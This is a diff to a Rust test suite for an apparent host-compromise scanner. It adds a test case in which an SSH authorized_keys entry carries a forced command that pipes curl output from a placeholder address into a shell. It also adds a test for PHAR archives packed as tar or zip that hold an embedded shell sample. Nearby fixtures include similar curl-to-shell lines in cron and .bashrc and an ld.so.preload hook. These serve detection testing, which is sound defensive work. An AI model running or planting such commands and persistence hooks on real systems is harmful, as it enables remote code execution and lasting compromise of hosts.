@@ -9,6 +9,8 @@ use crate::source::fake::FakeRoot;
 use crate::sweep::{Options, Sweep};
 use base64::Engine as _;
 
+const KEY: &str = include_str!("../../../../../testdata/authorized_keys/plain_ed25519.in");
+
 fn attributes<'a>(finding: &'a Finding, wanted: &str) -> Vec<String> {
     let of = |evidence: &'a Evidence| match evidence {
         Evidence::Attribute { name, value } if name == wanted => Some(value.to_string()),
@@ -83,6 +85,7 @@ fn lists_in_a_backup_of_a_host_are_judged_by_line() {
     let tar = make::tar(&[
         ("host/etc/cron.d/x", b"# fine\n* * * * * root curl -s http://192.0.2.1/x | sh\n"),
         ("host/root/.bashrc", b"curl -s http://192.0.2.1/x | bash\n"),
+        ("host/root/.ssh/authorized_keys", format!("# a key\ncommand=\"curl http://192.0.2.1 | sh\" {KEY}").as_bytes()),
         ("host/etc/ld.so.preload", b"/dev/shm/.x.so\n"),
         ("host/tmp/.cache/update", b"x"),
         ("tmp/.cache/update", b"x"),
@@ -92,6 +95,8 @@ fn lists_in_a_backup_of_a_host_are_judged_by_line() {
     for rule in ["TR-CRON-0001 high", "TR-TAMPER-0002 high", "TR-TAMPER-0001 high", "TR-IOC-0008 high"] {
         assert!(ids.contains(&rule.to_owned()), "{rule}: {ids:?}");
     }
+    let key = findings.iter().find(|finding| finding.rule.0 == "TR-TAMPER-0005").unwrap();
+    assert!(key.evidence.iter().any(|evidence| matches!(evidence, Evidence::Line { line: 2, .. })), "{key:#?}");
     let cron = findings.iter().find(|finding| finding.rule.0 == "TR-CRON-0001").unwrap();
     assert_eq!(cron.subject.kind(), "file");
     assert_eq!(attributes(cron, "member"), ["host/etc/cron.d/x"]);
@@ -159,6 +164,18 @@ fn phar_that_calls_itself_a_picture_and_makes_objects_is_told() {
     assert_eq!(attributes(found, "class"), ["Gadget01"]);
     let plain = make::phar(b"<?php exit;", b"a:1:{s:7:\"version\";s:3:\"1.0\";}", &[("test.txt", 0, b"test")]);
     assert!(Scene::new().file("/opt/tool/tool.phar", plain).findings().is_empty());
+}
+
+#[test]
+fn phar_that_is_a_tar_or_a_zip_is_read_as_one() {
+    let stub = b"<?php exit; __HALT_COMPILER(); ?>";
+    let tar = make::tar(&[(".phar/stub.php", stub), ("x.php", SHELL)]);
+    let zip = make::zip(&[(".phar/stub.php", How::Stored, stub), ("x.php", How::Deflated, SHELL)]);
+    for content in [tar, zip] {
+        let findings = Scene::new().file("/usr/share/php/a.PHAR", content).findings();
+        let found = php_rules(&findings);
+        assert!(found.iter().any(|finding| attributes(finding, "member") == ["x.php"]), "{:?}", ids(&findings));
+    }
 }
 
 #[test]
